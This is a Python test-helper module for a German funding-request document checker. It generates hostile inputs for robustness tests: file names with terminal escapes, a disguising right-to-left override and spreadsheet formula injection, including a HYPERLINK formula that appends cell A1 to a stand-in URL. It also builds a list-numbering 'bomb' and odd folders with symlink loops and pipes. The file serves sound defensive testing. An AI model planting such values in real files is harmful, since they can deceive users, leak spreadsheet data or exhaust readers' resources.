"""Hostile inputs, generated: documents, file names and folders as an attacker or an
unlucky office would make them.  The tests in tests/hostile_test.py run every command
over what these functions build; nothing here is checked in as a binary fixture."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

from antragscheck.docxwrite import NUMBERING_DE, para, write_docx
from tests.helpers import complete_body, title

# File names that break careless outputs: control characters (an ANSI escape that
# would recolour a terminal, a newline, a bell), spreadsheet formulas, an option-like
# leading dash, Markdown and HTML, rich markup, and a right-to-left override.
HOSTILE_NAMES = (
    "farbe\x1b[31mrot\x1b[0m.docx",
    "zeile\numbruch\r\x07.docx",
    '=HYPERLINK("http://example.invalid","klick").docx',
    "+SUM(1+1).docx",
    "-rf.docx",
    "@cmd.docx",
    "<b>fett</b> | *stern* [link](x).docx",
    "[red]markup[/red] [/].docx",
    "rechts\u202etxt.exe.docx",
)
# A name that is not UTF-8 at all (bytes as a Linux file system keeps them).
INVALID_UTF8_NAME = b"kaputt-\xff\xfe-name.docx"

FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"Stellenschaffung zum Stellenplan 2022")'


def good_request(path: Path) -> Path:
    """A complete request: no error."""
    return write_docx(path, complete_body())


def failing_request(path: Path) -> Path:
    """A request whose section 4 … is missing its council reference: at least one error."""
    body = complete_body(kriterien=para("Die Stelle ist in der Grünen Liste enthalten."))
    return write_docx(path, body)


def formula_request(path: Path) -> Path:
    """A failing request whose title and org unit start like spreadsheet formulas."""
    body = complete_body(kriterien=para("Die Stelle ist in der Grünen Liste enthalten."))
    body = body.replace(title(), para(FORMULA_TITLE, style="Titel"))
    body = body.replace("Abteilung Wirtschaftsförderung", "Abteilung =1+2 @SUMME")
    return write_docx(path, body)


def numbering_bomb(
    path: Path, start: str, fmt: str = "lowerLetter", override: bool = False
) -> Path:
    """A small file whose list numbering declares a start value such as 10**9 (or any
    text): Word caps it, a naive reader builds a gigabyte-long label."""
    level = (
        f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="{fmt}"/>'
        '<w:lvlText w:val="%1."/></w:lvl>'
    )
    override_xml = (
        f'<w:lvlOverride w:ilvl="0"><w:startOverride w:val="{start}"/></w:lvlOverride>'
        if override
        else ""
    )
    numbering = NUMBERING_DE.replace(
        "</w:numbering>",
        f'<w:abstractNum w:abstractNumId="9">{level}</w:abstractNum>'
        f'<w:num w:numId="9"><w:abstractNumId w:val="9"/>{override_xml}</w:num></w:numbering>',
    )
    body = complete_body(vermerke="".join(para(f"Punkt {i}", num=(9, 0)) for i in range(50)))
    return write_docx(path, body, numbering=numbering)


def pad_to(path: Path, size: int) -> None:
    """Grow a package to exactly `size` bytes with a zip comment (still a valid zip)."""
    missing = size - path.stat().st_size
    assert 0 <= missing < 65_000, missing
    if missing:
        with zipfile.ZipFile(path, "a") as archive:
            archive.comment = b" " * missing


def odd_folder(root: Path) -> dict[str, Path]:
    """A folder with what real file servers hold besides documents: a dangling link, a
    link loop, a pipe named like a document, a name that is not UTF-8, and one good
    request.  Returns the paths by kind (POSIX only: links and pipes)."""
    root.mkdir(parents=True, exist_ok=True)
    made = {"good": good_request(root / "gut.docx")}
    dangling = root / "verwaist.docx"
    dangling.symlink_to(root / "gibt-es-nicht.docx")
    made["dangling"] = dangling
    loop = root / "schleife.docx"
    loop.symlink_to(loop)
    made["loop"] = loop
    fifo = root / "pipe.docx"
    os.mkfifo(fifo)
    made["fifo"] = fifo
    invalid = os.fsdecode(os.path.join(os.fsencode(root), INVALID_UTF8_NAME))
    good_request(Path(invalid))
    made["invalid_utf8"] = Path(invalid)
    return made
